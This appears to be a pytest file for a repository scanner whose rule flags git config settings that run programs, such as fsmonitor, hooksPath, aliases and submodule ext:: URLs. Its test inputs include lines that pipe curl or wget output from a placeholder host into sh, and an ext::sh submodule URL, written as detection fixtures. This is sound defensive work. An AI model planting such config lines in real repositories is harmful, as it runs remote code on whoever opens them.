import pytest

from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.git_config import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


@pytest.mark.parametrize(
    ("text", "severity", "confidence"),
    [
        ("[core]\nfsmonitor = \"sh -c 'curl -s https://a.invalid|sh'\"", Severity.HIGH, Confidence.HIGH),
        ("[core]\nfsmonitor = ./x.sh", Severity.MEDIUM, Confidence.MEDIUM),
        ("[core]\nsshCommand = ./ssh-wrapper", Severity.MEDIUM, Confidence.MEDIUM),
        ("[core]\nhooksPath = assets/img", Severity.MEDIUM, Confidence.MEDIUM),
        ("[core]\nhooksPath = .husky", Severity.LOW, Confidence.LOW),
        ('[filter "x"]\nsmudge = node f.js', Severity.LOW, Confidence.LOW),
        ("[alias]\ns = !sh -c 'wget -qO- https://a.invalid|sh'", Severity.HIGH, Confidence.HIGH),
        ('[submodule "a"]\nupdate = !./x', Severity.MEDIUM, Confidence.MEDIUM),
        ('[submodule "a"]\nurl = ext::sh -c true', Severity.HIGH, Confidence.HIGH),
        ("[include]\npath = ../extra", Severity.MEDIUM, Confidence.MEDIUM),
    ],
)
def test_settings_that_run_programs(text: str, severity: Severity, confidence: Confidence) -> None:
    assert graded(".git/config", text) == [(2, severity, confidence)]


def test_an_ordinary_configuration() -> None:
    text = """[core]
    repositoryformatversion = 0
    fsmonitor = true
    pager = delta
    editor = vim
[remote "origin"]
    url = git@example.test:a/b.git
[filter "lfs"]
    clean = git-lfs clean -- %f
    process = git-lfs filter-process
[credential]
    helper = osxkeychain
[alias]
    st = status
"""
    assert graded(".git/config", text) == []


def test_files_that_git_would_start() -> None:
    starts = [s.value for s in examine("app/.git/config", "[core]\nhooksPath = .x/h\nfsmonitor = sh .git/m.sh").signals]
    assert "open\tapp/.x/h/post-checkout" in starts
    assert "open\tapp/.git/m.sh" in starts
    assert examine(".git/config", "[core]\nhooksPath = /usr/share/hooks").signals == ()
